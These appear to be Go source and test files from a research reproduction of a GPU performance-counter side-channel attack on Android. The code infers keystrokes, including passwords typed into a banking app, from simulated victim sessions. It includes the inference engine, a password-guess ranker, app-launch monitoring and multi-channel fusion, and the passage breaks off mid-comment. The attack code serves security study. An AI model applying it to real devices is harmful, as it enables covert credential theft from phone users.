	f := &flakyFile{revokeAt: 4}
	s, err := NewSamplerRetry(f, DefaultInterval, DefaultRetryPolicy())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Collect(0, 80*sim.Millisecond); err != nil {
		t.Fatalf("collect across a revocation: %v", err)
	}
	if s.Stats.ReReservations != 1 {
		t.Errorf("Stats.ReReservations = %d, want 1", s.Stats.ReReservations)
	}
	if f.reserves < 2 {
		t.Errorf("device saw %d reservations, want the initial one plus a recovery", f.reserves)
	}
}

// TestSamplerZeroPolicyIsFatal pins the legacy contract: without a retry
// policy the first device error aborts the collection with a typed
// *SampleError wrapping the sentinel.
func TestSamplerZeroPolicyIsFatal(t *testing.T) {
	f := &flakyFile{failReads: map[int]error{2: kgsl.ErrBusy}}
	s, err := NewSamplerRetry(f, DefaultInterval, RetryPolicy{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Collect(0, 80*sim.Millisecond)
	var se *SampleError
	if !errors.As(err, &se) {
		t.Fatalf("error %v is not a *SampleError", err)
	}
	if se.Op != "read" || !errors.Is(err, kgsl.ErrBusy) {
		t.Fatalf("SampleError %+v, want a read failure wrapping ErrBusy", se)
	}
}

// TestSamplerMaxBadTicksAbandons pins the give-up bound: when every tick
// exhausts its retry budget, the collection fails fatally after
// MaxBadTicks consecutive losses instead of silently returning a trace
// of gaps.
func TestSamplerMaxBadTicksAbandons(t *testing.T) {
	f := &flakyFile{failReserve: nil}
	// Every read after the first tick fails.
	f.failReads = map[int]error{}
	for i := 1; i < 200; i++ {
		f.failReads[i] = kgsl.ErrBusy
	}
	s, err := NewSamplerRetry(f, DefaultInterval,
		RetryPolicy{MaxAttempts: 2, MaxBadTicks: 3})
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Collect(0, 400*sim.Millisecond)
	if err == nil {
		t.Fatal("collection succeeded though every tick failed")
	}
	if !strings.Contains(err.Error(), "consecutive") {
		t.Errorf("fatal error %q does not name the consecutive-tick bound", err)
	}
	var se *SampleError
	if !errors.As(err, &se) {
		t.Errorf("fatal error %v does not wrap a *SampleError", err)
	}
}

// TestSamplerReserveRetries pins start-up recovery: a busy initial
// PERFCOUNTER_GET is retried under the policy, and without one it fails
// with a typed reserve error.
func TestSamplerReserveRetries(t *testing.T) {
	f := &flakyFile{failReserve: kgsl.ErrBusy}
	_, err := NewSamplerRetry(f, DefaultInterval, RetryPolicy{})
	var se *SampleError
	if !errors.As(err, &se) || se.Op != "reserve" {
		t.Fatalf("zero-policy reserve failure = %v, want *SampleError{Op: reserve}", err)
	}

	// With a policy, the reservation succeeds once the device frees up.
	n := 0
	g := &gatedReserveFile{flakyFile: &flakyFile{}, failures: 2, count: &n}
	s, err := NewSamplerRetry(g, DefaultInterval, DefaultRetryPolicy())
	if err != nil {
		t.Fatalf("reserve with retry policy: %v", err)
	}
	if n != 3 {
		t.Errorf("device saw %d reservation attempts, want 3", n)
	}
	if s == nil {
		t.Fatal("nil sampler after successful retry")
	}
}

// gatedReserveFile fails the first N reservations with EBUSY.
type gatedReserveFile struct {
	*flakyFile
	failures int
	count    *int
}

func (g *gatedReserveFile) ReserveSelected(t sim.Time) error {
	*g.count++
	if *g.count <= g.failures {
		return kgsl.ErrBusy
	}
	return g.flakyFile.ReserveSelected(t)
}
