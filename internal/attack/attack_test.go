package attack

import (
	"bytes"
	"sync"
	"testing"

	"gpuleak/internal/android"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

// Offline collection is expensive enough to share across tests.
var (
	modelOnce sync.Once
	oneModel  *Model
	modelErr  error
)

func baseVictimConfig() victim.Config {
	return victim.Config{Device: android.OnePlus8Pro, Seed: 99}
}

func sharedModel(t *testing.T) *Model {
	t.Helper()
	modelOnce.Do(func() {
		oneModel, modelErr = Collect(baseVictimConfig(), CollectOptions{Repeats: 2})
	})
	if modelErr != nil {
		t.Fatalf("offline collection failed: %v", modelErr)
	}
	return oneModel
}

func TestOfflineCollectBuildsFullModel(t *testing.T) {
	m := sharedModel(t)
	if len(m.Keys) < 60 {
		t.Fatalf("model knows %d keys, want all typable keys", len(m.Keys))
	}
	if len(m.Noise) == 0 {
		t.Fatal("no noise centroids learned")
	}
	if m.Cth <= 0 {
		t.Fatalf("Cth = %v", m.Cth)
	}
	if m.Launch.IsZero() {
		t.Fatal("no launch fingerprint")
	}
	if m.Key.Device != "OnePlus 8 Pro" || m.Key.Keyboard != "gboard" {
		t.Fatalf("model key = %v", m.Key)
	}
}

func TestModelSeparatesKeys(t *testing.T) {
	m := sharedModel(t)
	if d := m.MinInterKeyDistance(); d <= 0 {
		t.Fatalf("degenerate key centroids: min inter distance %v", d)
	}
	// Every centroid classifies back to its own key.
	wrong := 0
	for s, c := range m.Keys {
		v := m.Classify(c)
		if !v.IsKey || v.R != firstRune(s) {
			wrong++
			t.Logf("centroid %q classifies to %q (isKey=%v)", s, v.R, v.IsKey)
		}
	}
	if wrong > 0 {
		t.Fatalf("%d centroids misclassify", wrong)
	}
}

func TestModelJSONRoundTrip(t *testing.T) {
	m := sharedModel(t)
	var buf bytes.Buffer
	if err := m.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	size := buf.Len()
	// §7.6: one model averages ~3.59 kB. Ours includes noise centroids;
	// accept the same order of magnitude.
	if size < 1000 || size > 80_000 {
		t.Fatalf("model JSON size = %d bytes", size)
	}
	back, err := ReadModel(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Keys) != len(m.Keys) || back.Cth != m.Cth {
		t.Fatal("round trip lost data")
	}
	if _, err := ReadModel(bytes.NewReader([]byte("{}"))); err == nil {
		t.Fatal("empty model accepted")
	}
}

func eavesdropText(t *testing.T, text string, cfgMut func(*victim.Config), seed int64) (*Result, string) {
	t.Helper()
	cfg := baseVictimConfig()
	cfg.Seed = seed
	if cfgMut != nil {
		cfgMut(&cfg)
	}
	sess := victim.New(cfg)
	r := sim.NewRand(seed * 7)
	script := input.Typing(text, input.Volunteers[0], input.SpeedAny, r, 700*sim.Millisecond)
	sess.Run(script)

	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	atk := New(sharedModel(t))
	res, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	return res, sess.TypedText()
}

func TestEndToEndEavesdropping(t *testing.T) {
	res, truth := eavesdropText(t, "mysecret99", nil, 1234)
	if res.Text != truth {
		t.Fatalf("eavesdropped %q, truth %q (stats %+v)", res.Text, truth, res.Stats)
	}
}

func TestEndToEndManyTexts(t *testing.T) {
	texts := []string{"password1", "qwertzuiop", "letmein12345", "a1b2c3d4"}
	good := 0
	for i, txt := range texts {
		res, truth := eavesdropText(t, txt, nil, int64(100+i))
		if res.Text == truth {
			good++
		} else {
			t.Logf("text %d: got %q want %q", i, res.Text, truth)
		}
	}
	if good < 3 {
		t.Fatalf("only %d/%d texts recovered", good, len(texts))
	}
}

func TestDuplicationSuppressed(t *testing.T) {
	// GBoard duplicates popup deltas ~18% of the time; over 40 presses we
	// expect several, all suppressed rather than duplicated in output.
	res, truth := eavesdropText(t, "abcdefghijklmnopqrstuvwxyzabcdefghijklmn", nil, 777)
	if len(res.Text) > len(truth) {
		t.Fatalf("inferred %d chars for %d presses — duplication leaked", len(res.Text), len(truth))
	}
}

func TestBackspaceCorrectionTracked(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 31
	sess := victim.New(cfg)
	script := input.Script{Events: []input.Event{
		{Kind: input.EvPress, R: 'a', At: 700 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'b', At: 1100 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'x', At: 1500 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvBackspace, At: 2000 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'c', At: 2500 * sim.Millisecond, Dur: 90 * sim.Millisecond},
	}}
	sess.Run(script)
	f, _ := sess.Open()
	atk := New(sharedModel(t))
	res, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	if res.Text != "abc" {
		t.Fatalf("with correction: got %q want %q (stats %+v)", res.Text, "abc", res.Stats)
	}
	if res.Stats.Corrections != 1 {
		t.Fatalf("corrections = %d, want 1", res.Stats.Corrections)
	}
}

func TestAppSwitchSuppressed(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 57
	sess := victim.New(cfg)
	script := input.Script{Events: []input.Event{
		{Kind: input.EvPress, R: 'a', At: 700 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'b', At: 1200 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvSwitchAway, At: 2 * sim.Second},
		{Kind: input.EvSwitchBack, At: 6 * sim.Second},
		{Kind: input.EvPress, R: 'c', At: 7 * sim.Second, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'd', At: 7500 * sim.Millisecond, Dur: 90 * sim.Millisecond},
	}}
	sess.Run(script)
	f, _ := sess.Open()
	atk := New(sharedModel(t))
	res, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	if res.Text != "abcd" {
		t.Fatalf("across app switch: got %q want %q (stats %+v)", res.Text, "abcd", res.Stats)
	}
	if res.Stats.Switches == 0 {
		t.Fatal("switch burst not detected")
	}
}

func TestRecognizePicksRightModel(t *testing.T) {
	m8 := sharedModel(t)
	cfg9 := victim.Config{Device: android.OnePlus9, Seed: 5}
	m9, err := Collect(cfg9, CollectOptions{Repeats: 1})
	if err != nil {
		t.Fatal(err)
	}
	atk := New(m8, m9)

	sess := victim.New(victim.Config{Device: android.OnePlus9, Seed: 61})
	r := sim.NewRand(6)
	sess.Run(input.Typing("hello", input.Volunteers[0], input.SpeedAny, r, 700*sim.Millisecond))
	f, _ := sess.Open()
	res, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		t.Fatal(err)
	}
	if res.Model.Device != "OnePlus 9" {
		t.Fatalf("recognized %v, want OnePlus 9", res.Model)
	}
	if res.Text != "hello" {
		t.Fatalf("cross-device text = %q", res.Text)
	}
}

func TestSamplerFailsClosedUnderRBAC(t *testing.T) {
	cfg := baseVictimConfig()
	sess := victim.New(cfg)
	r := sim.NewRand(1)
	sess.Run(input.Typing("abc", input.Volunteers[0], input.SpeedAny, r, 700*sim.Millisecond))
	sess.Device.OpenDenied = true
	if _, err := sess.Open(); err == nil {
		t.Fatal("open should fail under deny policy")
	}
}

func TestEavesdropNoModels(t *testing.T) {
	atk := &Attack{}
	sess := victim.New(baseVictimConfig())
	sess.Run(input.Script{})
	f, _ := sess.Open()
	if _, err := atk.Eavesdrop(f, 0, sess.End); err == nil {
		t.Fatal("no-model attack should error")
	}
}
