package attack

import (
	"testing"

	"gpuleak/internal/sim"
)

func guessKeys(rs string, alts string, margins []float64) []InferredKey {
	out := make([]InferredKey, len(margins))
	rr := []rune(rs)
	ra := []rune(alts)
	for i := range out {
		out[i] = InferredKey{At: sim.Time(i) * 200_000, R: rr[i], Alt: ra[i], Margin: margins[i]}
	}
	return out
}

func TestGuessFirstCandidateIsRawInference(t *testing.T) {
	keys := guessKeys("abc", "xyz", []float64{5, 1, 3})
	cands := GuessCandidates(keys, 4)
	if cands[0] != "abc" {
		t.Fatalf("first candidate = %q", cands[0])
	}
}

func TestGuessOrderFollowsMargins(t *testing.T) {
	keys := guessKeys("abc", "xyz", []float64{5, 1, 3})
	cands := GuessCandidates(keys, 4)
	// Costs: {}=0, {y}=1, {z}=3, {y,z}=4, {x}=5.
	want := []string{"abc", "ayc", "abz", "ayz"}
	for i, w := range want {
		if cands[i] != w {
			t.Fatalf("candidate %d = %q, want %q (all: %q)", i, cands[i], w, cands)
		}
	}
}

func TestGuessEnumeratesPairs(t *testing.T) {
	keys := guessKeys("ab", "xy", []float64{1, 2})
	cands := GuessCandidates(keys, 10)
	if len(cands) != 4 {
		t.Fatalf("candidates = %q", cands)
	}
	// Full enumeration: ab(0), xb(1), ay(2), xy(3).
	want := []string{"ab", "xb", "ay", "xy"}
	for i, w := range want {
		if cands[i] != w {
			t.Fatalf("candidate %d = %q, want %q", i, cands[i], w)
		}
	}
}

func TestGuessNoDuplicates(t *testing.T) {
	keys := guessKeys("abcd", "wxyz", []float64{1, 1, 1, 1})
	cands := GuessCandidates(keys, 16)
	seen := map[string]bool{}
	for _, c := range cands {
		if seen[c] {
			t.Fatalf("duplicate candidate %q", c)
		}
		seen[c] = true
	}
	if len(cands) != 16 {
		t.Fatalf("want full 2^4 enumeration, got %d", len(cands))
	}
}

func TestGuessSkipsPositionsWithoutAlt(t *testing.T) {
	keys := []InferredKey{
		{R: 'a', Alt: 0},
		{R: 'b', Alt: 'y', Margin: 1},
	}
	cands := GuessCandidates(keys, 10)
	if len(cands) != 2 || cands[1] != "ay" {
		t.Fatalf("candidates = %q", cands)
	}
}

func TestGuessRank(t *testing.T) {
	keys := guessKeys("abc", "xyz", []float64{5, 1, 3})
	if r := GuessRank(keys, "ayc", 10); r != 2 {
		t.Fatalf("rank = %d", r)
	}
	if r := GuessRank(keys, "zzz", 10); r != 0 {
		t.Fatalf("absent rank = %d", r)
	}
	if GuessCandidates(keys, 0) != nil {
		t.Fatal("k=0 returned candidates")
	}
}

func TestGuessRecoversSingleError(t *testing.T) {
	// End to end: inject a single misclassification-prone press and show
	// that the truth appears within a few guesses.
	m := sharedModel(t)
	res, truth := eavesdropText(t, "guessable1", nil, 4242)
	if res.Text == truth {
		t.Skip("no error to correct on this seed")
	}
	rank := GuessRank(res.Keys, truth, 50)
	if rank == 0 {
		t.Logf("truth not within 50 guesses (text %q vs %q) — acceptable for non-substitution errors", res.Text, truth)
	} else if rank <= 1 {
		t.Fatalf("rank 1 should equal exact match")
	}
	_ = m
}

func TestRankWithPrior(t *testing.T) {
	cands := []string{"abc", "ayc", "abz", "ayz"}
	prior := map[string]float64{"abz": 0.9, "ayz": 0.2}
	got := RankWithPrior(cands, prior)
	want := []string{"abz", "ayz", "abc", "ayc"}
	for i, w := range want {
		if got[i] != w {
			t.Fatalf("rank %d = %q, want %q (all %q)", i, got[i], w, got)
		}
	}
	// Without a prior the order is untouched.
	same := RankWithPrior(cands, nil)
	for i, c := range cands {
		if same[i] != c {
			t.Fatal("empty prior changed order")
		}
	}
}
