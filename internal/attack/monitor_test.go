package attack

import (
	"testing"

	"gpuleak/internal/android"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

func TestMonitorDetectsLaunchAndEavesdrops(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 404
	cfg.PreLaunch = 5 * sim.Second
	m := sharedModel(t)

	sess := victim.New(cfg)
	script := input.Typing("monitored1", input.Volunteers[0], input.SpeedAny,
		sim.NewRand(17), cfg.PreLaunch+800*sim.Millisecond)
	sess.Run(script)

	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	atk := New(m)
	res, err := atk.MonitorAndEavesdrop(f, 0, sess.End, MonitorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Detected {
		t.Fatal("target app launch not detected")
	}
	// Detection must be at the real launch, not during the foreign phase.
	if res.LaunchDetectedAt < sess.LaunchAt || res.LaunchDetectedAt > sess.LaunchAt+200*sim.Millisecond {
		t.Fatalf("detected at %v, launch at %v", res.LaunchDetectedAt, sess.LaunchAt)
	}
	if res.Result == nil || res.Result.Text != sess.TypedText() {
		t.Fatalf("monitored eavesdropping got %q, want %q", res.Result.Text, sess.TypedText())
	}
	// Low-duty monitoring: far fewer reads than full-rate polling of the
	// same span would need.
	fullRate := int((sess.LaunchAt - 0) / DefaultInterval)
	if res.IdleReads >= fullRate {
		t.Fatalf("monitor polled %d times, full rate would be %d", res.IdleReads, fullRate)
	}
}

func TestMonitorDoesNotFireOnForeignUse(t *testing.T) {
	// A session that never launches the target app: only foreign frames.
	cfg := baseVictimConfig()
	cfg.Seed = 405
	cfg.App = android.Amex // victim uses a NON-target app
	m := sharedModel(t)    // models trained for Chase

	sess := victim.New(cfg)
	sess.Run(input.Script{})
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	atk := New(m)
	res, err := atk.MonitorAndEavesdrop(f, 0, sess.End, MonitorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Detected {
		t.Fatalf("monitor fired on a non-target app at %v", res.LaunchDetectedAt)
	}
}
