package attack

import (
	"sort"

	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// Multi-channel fusion (decision level). Two channels observe the same
// victim timeline with complementary failure modes: the primary (KGSL)
// channel resolves individual keys but its ioctl path is what fault
// planes and mitigations starve; a secondary OS-counter channel cannot
// tell keys of the same popup-geometry family apart but keeps observing
// while the primary loses ticks. The fusion rules below are pure
// functions of the two finished single-channel runs (plus the primary's
// raw delta stream), so a fused result is as deterministic as its
// inputs.

// FusionOptions tunes decision-level fusion. The zero value selects
// defaults scaled to the primary channel's polling interval.
type FusionOptions struct {
	// Window is the cross-channel alignment window: a secondary detection
	// within Window of a primary key refers to the same press. Default:
	// 1.5 primary intervals + 1 ms, the engine's own gap tolerance.
	Window sim.Time
	// DedupWindow suppresses secondary-driven recovery near an existing
	// key, mirroring the engine's §5.1 duplication window (default 75 ms):
	// a secondary detection that close is the same press's echo/popup
	// redraw, not a missed key.
	DedupWindow sim.Time
	// RelaxCth widens the primary model's acceptance threshold during
	// family-restricted recovery (default 2.0): with the candidate set cut
	// to one popup-geometry family by the secondary channel, a laxer
	// distance bound no longer risks cross-family confusion.
	RelaxCth float64
	// FamilyEps bounds the weighted distance under the secondary model
	// within which two key centroids count as indistinguishable — members
	// of one family (default 1e-6, exact collisions only).
	FamilyEps float64
	// EvidenceWindow bounds how far from a secondary detection the
	// primary's unattributed deltas are searched during recovery. A press
	// lost to a tick-drop burst surfaces as a merged delta at the first
	// read AFTER the burst, so this is wider than the alignment window:
	// default 5 primary intervals + 1 ms, one interval past the engine's
	// resync gap.
	EvidenceWindow sim.Time
}

func (o FusionOptions) withDefaults(interval sim.Time) FusionOptions {
	if interval <= 0 {
		interval = DefaultInterval
	}
	if o.Window == 0 {
		o.Window = interval*3/2 + sim.Millisecond
	}
	if o.DedupWindow == 0 {
		o.DedupWindow = 75 * sim.Millisecond
	}
	if o.RelaxCth <= 0 {
		o.RelaxCth = 2.0
	}
	if o.FamilyEps <= 0 {
		o.FamilyEps = 1e-6
	}
	if o.EvidenceWindow == 0 {
		o.EvidenceWindow = 5*interval + sim.Millisecond
	}
	return o
}

// FusionResult is the outcome of fusing two single-channel runs.
type FusionResult struct {
	// Primary and Secondary are the single-channel results the fusion
	// consumed, unchanged.
	Primary   *Result
	Secondary *Result
	// Fused is the merged result. Its Model and Stats come from the
	// primary run; Degraded is the OR of both runs.
	Fused *Result
	// Recovered counts keys inserted on secondary evidence; Flipped
	// counts primary verdicts flipped to their alternate.
	Recovered int
	Flipped   int
}

// Fuse merges a finished primary run with a finished secondary run.
// pm/sm are the two channels' models, pds the primary trace's deltas
// (the sub-threshold evidence pool for recovery), and interval the
// primary polling period the default windows scale from.
//
// Two rules, applied per secondary detection in time order:
//
//   - Flip: a primary key whose best guess the secondary's family
//     contradicts — and whose runner-up it endorses — takes the
//     runner-up. On a fault-free primary the best guess and the
//     secondary family agree, so the rule never fires there.
//   - Recover: a secondary detection with no fused key nearby marks a
//     press the primary engine dropped. The secondary cannot name the
//     key, but it names the family; the primary's unattributed deltas
//     around the detection are re-scored against that family alone,
//     under a relaxed threshold (and the model's noise signatures, for
//     gap-merged deltas). Only evidence-backed keys are inserted — a
//     detection with no primary residue is left unresolved rather than
//     guessed.
func Fuse(pm *Model, pds []trace.Delta, pres *Result, sm *Model, sres *Result, interval sim.Time, opts FusionOptions) *FusionResult {
	opts = opts.withDefaults(interval)
	pm.buildNoiseIndex()
	out := &FusionResult{Primary: pres, Secondary: sres}

	fused := append([]InferredKey(nil), pres.Keys...)
	attributed := make(map[sim.Time]bool, len(fused))
	for _, k := range fused {
		attributed[k.At] = true
	}

	for _, s := range sres.Keys {
		// Nearest fused key to the detection.
		nearest := -1
		var nearestGap sim.Time
		for i, k := range fused {
			gap := k.At - s.At
			if gap < 0 {
				gap = -gap
			}
			if nearest < 0 || gap < nearestGap {
				nearest, nearestGap = i, gap
			}
		}

		if nearest >= 0 && nearestGap <= opts.Window {
			p := &fused[nearest]
			if p.Alt != 0 &&
				!sameFamily(sm, s.R, p.R, opts.FamilyEps) &&
				sameFamily(sm, s.R, p.Alt, opts.FamilyEps) {
				p.R, p.Alt = p.Alt, p.R
				p.Margin = -p.Margin
				out.Flipped++
			}
			continue
		}
		if nearest >= 0 && nearestGap <= opts.DedupWindow {
			// The same press's popup/echo redraw seen from the other side;
			// nothing was missed.
			continue
		}

		// Recovery: re-score the primary's unattributed deltas near the
		// detection against the secondary's family only.
		if r, ok := recoverKey(pm, sm, pds, s, attributed, opts); ok {
			fused = append(fused, r)
			attributed[r.At] = true
			out.Recovered++
		}
	}

	sort.SliceStable(fused, func(i, j int) bool { return fused[i].At < fused[j].At })
	rs := make([]rune, len(fused))
	for i, k := range fused {
		rs[i] = k.R
	}
	f := *pres
	f.Keys = fused
	f.Text = string(rs)
	f.Degraded = pres.Degraded || sres.Degraded
	out.Fused = &f
	return out
}

// sameFamily reports whether the secondary model cannot tell two keys
// apart: their centroids coincide within eps in its weighted space.
func sameFamily(sm *Model, a, b rune, eps float64) bool {
	ca, okA := sm.Keys[string(a)]
	cb, okB := sm.Keys[string(b)]
	if !okA || !okB {
		return false
	}
	return ca.Dist(cb, sm.Weights) <= eps
}

// recoverKey searches the primary's unattributed deltas around a
// secondary detection for evidence of the dropped press, restricted to
// the detection's key family. Gap-merged deltas (the press summed with
// neighboring redraws) are matched through the model's noise signatures,
// exactly like ClassifyDenoised but family-bounded.
func recoverKey(pm, sm *Model, pds []trace.Delta, s InferredKey, attributed map[sim.Time]bool, opts FusionOptions) (InferredKey, bool) {
	lo := sort.Search(len(pds), func(i int) bool { return pds[i].At >= s.At-opts.Window })
	bestR, bestScore := rune(0), pm.Cth*opts.RelaxCth
	var bestAt sim.Time
	for i := lo; i < len(pds) && pds[i].At <= s.At+opts.EvidenceWindow; i++ {
		d := pds[i]
		if attributed[d.At] {
			continue
		}
		for name, c := range pm.Keys {
			r := firstRune(name)
			if !sameFamily(sm, s.R, r, opts.FamilyEps) {
				continue
			}
			score := d.V.Dist(c, pm.Weights)
			// Residual-through-noise match for gap-merged deltas; the
			// index's Cth bound keeps this within the valid range.
			if dn := pm.nearestNoiseTo(d.V.Sub(c)); dn < pm.Cth && dn < score {
				score = dn
			}
			if score < bestScore || (score <= bestScore && (bestR == 0 || r < bestR)) {
				bestR, bestScore, bestAt = r, score, d.At
			}
		}
	}
	if bestR == 0 {
		return InferredKey{}, false
	}
	return InferredKey{At: bestAt, R: bestR, Alt: s.R, Margin: 0}, true
}
