package attack

import (
	"bytes"
	"testing"

	"gpuleak/internal/android"
	"gpuleak/internal/victim"
)

// modelBytes serializes a model; encoding/json writes map keys sorted, so
// byte equality is a faithful model-equality check (Model carries no
// exported nondeterministic state).
func modelBytes(t *testing.T, m *Model) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := m.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCollectBitIdenticalAcrossWorkers is the tentpole guarantee: the
// offline phase derives every task's randomness from (seed, task index),
// so the trained model is byte-for-byte identical at any worker count.
func TestCollectBitIdenticalAcrossWorkers(t *testing.T) {
	cfg := victim.Config{Device: android.OnePlus8Pro, Seed: 42, RenderJitter: 0.004}
	var want []byte
	for _, workers := range []int{1, 4, 8} {
		m, err := Collect(cfg, CollectOptions{Repeats: 2, Workers: workers})
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		got := modelBytes(t, m)
		if want == nil {
			want = got
			continue
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("workers=%d produced a different model than workers=1 (%d vs %d bytes)",
				workers, len(got), len(want))
		}
	}
}

// TestCollectSeedSensitivity guards against the per-task seeding
// accidentally ignoring the base seed: different base seeds must yield
// different jittered observations.
func TestCollectSeedSensitivity(t *testing.T) {
	mk := func(seed int64) []byte {
		cfg := victim.Config{Device: android.OnePlus8Pro, Seed: seed, RenderJitter: 0.004}
		m, err := Collect(cfg, CollectOptions{Repeats: 1, Workers: 2})
		if err != nil {
			t.Fatal(err)
		}
		return modelBytes(t, m)
	}
	if bytes.Equal(mk(1), mk(2)) {
		t.Fatal("models for different base seeds are identical; task seeding ignores the base seed")
	}
}

// TestCollectSharedCacheMatchesPrivate verifies that handing Collect a
// pre-populated shared render cache cannot change the trained model:
// rendering is pure, so cache hits and misses are indistinguishable.
func TestCollectSharedCacheMatchesPrivate(t *testing.T) {
	cfg := victim.Config{Device: android.OnePlus8Pro, Seed: 7, RenderJitter: 0.004}
	a, err := Collect(cfg, CollectOptions{Repeats: 1})
	if err != nil {
		t.Fatal(err)
	}
	cache := android.NewStatsCache()
	cfg.RenderCache = cache
	if _, err := Collect(cfg, CollectOptions{Repeats: 1}); err != nil {
		t.Fatal(err) // warm the cache
	}
	if cache.Len() == 0 {
		t.Fatal("shared render cache unused by Collect")
	}
	b, err := Collect(cfg, CollectOptions{Repeats: 1})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(modelBytes(t, a), modelBytes(t, b)) {
		t.Fatal("warm shared cache changed the trained model")
	}
}
