package attack

import (
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// InferredKey is one eavesdropped key press.
type InferredKey struct {
	At sim.Time
	R  rune
	// Alt is the runner-up classification and Margin the distance gap to
	// it; low-margin keys are the first candidates for the §7.1
	// guess-correction strategy.
	Alt    rune
	Margin float64
}

// OnlineOptions tunes the §5 online inference engine. Zero values select
// the paper's defaults; the Disable* switches exist for ablation studies.
type OnlineOptions struct {
	// DedupWindow is Ti of §5.1: a PC change within Ti of an inferred key
	// press cannot be another key press. Paper value: 75 ms.
	DedupWindow sim.Time
	// SplitWindow bounds how far apart two fragments of a split delta can
	// be and still be combined. Defaults to 2.5 polling intervals.
	SplitWindow sim.Time
	// BurstGap/BurstLen parameterize app-switch detection (§5.2): a run of
	// BurstLen large deltas, each within BurstGap of the previous one.
	BurstGap sim.Time
	BurstLen int

	// GapTolerance flags a delta whose sampling gap exceeds it (late or
	// singly-dropped ticks): pending split fragments are discarded because
	// the delta may aggregate unrelated events, but classification still
	// runs. Defaults to 1.5 polling intervals, which no fault-free trace
	// exceeds. ResyncGap abandons inference across the gap entirely
	// (abandon-and-resync): the aggregated delta is untrustworthy, so the
	// engine clears its short-term state and waits for fresh evidence.
	// Defaults to 4 polling intervals.
	GapTolerance sim.Time
	ResyncGap    sim.Time

	// Ablation switches.
	DisableDedup        bool
	DisableSplitCombine bool
	DisableSwitchDetect bool
	DisableCorrections  bool
	DisableGapHandling  bool
}

func (o OnlineOptions) withDefaults(interval sim.Time) OnlineOptions {
	if o.DedupWindow == 0 {
		o.DedupWindow = 75 * sim.Millisecond
	}
	if o.SplitWindow == 0 {
		if interval <= 0 {
			interval = DefaultInterval
		}
		o.SplitWindow = interval*5/2 + sim.Millisecond
	}
	if o.BurstGap == 0 {
		o.BurstGap = 50 * sim.Millisecond
	}
	if o.BurstLen == 0 {
		o.BurstLen = 5
	}
	if o.GapTolerance == 0 {
		if interval <= 0 {
			interval = DefaultInterval
		}
		o.GapTolerance = interval*3/2 + sim.Millisecond
	}
	if o.ResyncGap == 0 {
		if interval <= 0 {
			interval = DefaultInterval
		}
		o.ResyncGap = 4 * interval
	}
	return o
}

// EngineStats counts what the engine did, for the §5.1 system-factor
// experiments.
type EngineStats struct {
	Deltas      int
	Keys        int
	Duplicates  int
	Splits      int // fragmented key presses recombined
	Noise       int // deltas matching learned non-key signatures
	NoiseSplits int // fragmented non-key events recombined
	Recombined  int // pending fragments resolved by any combination
	Unknown     int // deltas that entered the pending buffer
	Corrections int
	Switches    int
	Gaps        int // deltas flagged for a tolerable sampling gap
	Resyncs     int // deltas abandoned across an intolerable sampling gap
}

// Residual returns the changes that stayed unexplained after split
// recombination — the §5.1 "system noise" count.
func (s EngineStats) Residual() int {
	r := s.Unknown - s.Recombined
	if r < 0 {
		r = 0
	}
	return r
}

// Engine is the streaming online-phase inference engine. Feed it deltas
// in time order with Process; read the eavesdropped credential with Text.
type Engine struct {
	model    *Model
	opts     OnlineOptions
	stats    EngineStats
	obs      *obs.Tracer
	classify func(at sim.Time, v trace.Vec) Verdict

	keys      []InferredKey
	lastKeyAt sim.Time
	haveKey   bool

	pending      *trace.Delta
	pendingLast  sim.Time
	pendingChain int
	suppressed   bool
	runLen       int
	runStartAt   sim.Time
	lastBigAt    sim.Time
	haveBig      bool
	bigPx        float64

	echoPrims     float64
	haveEchoPrims bool
	lastEchoAt    sim.Time

	meanKeyNorm float64
}

// NewEngine builds an engine for one classification model. interval is
// the sampler's polling period (used to bound split combining).
func NewEngine(m *Model, interval sim.Time, opts OnlineOptions) *Engine {
	maxPx := 0.0
	for _, c := range m.Keys {
		if c[3] > maxPx {
			maxPx = c[3]
		}
	}
	e := &Engine{
		model:       m,
		opts:        opts.withDefaults(interval),
		meanKeyNorm: m.meanKeyNorm(),
		bigPx:       1.25 * maxPx,
	}
	e.classify = func(_ sim.Time, v trace.Vec) Verdict { return m.ClassifyDenoised(v) }
	return e
}

// SetClassify overrides how the engine classifies deltas. fn must be
// semantically identical to the model's ClassifyDenoised for every input
// — the serving layer uses this hook to route classification through a
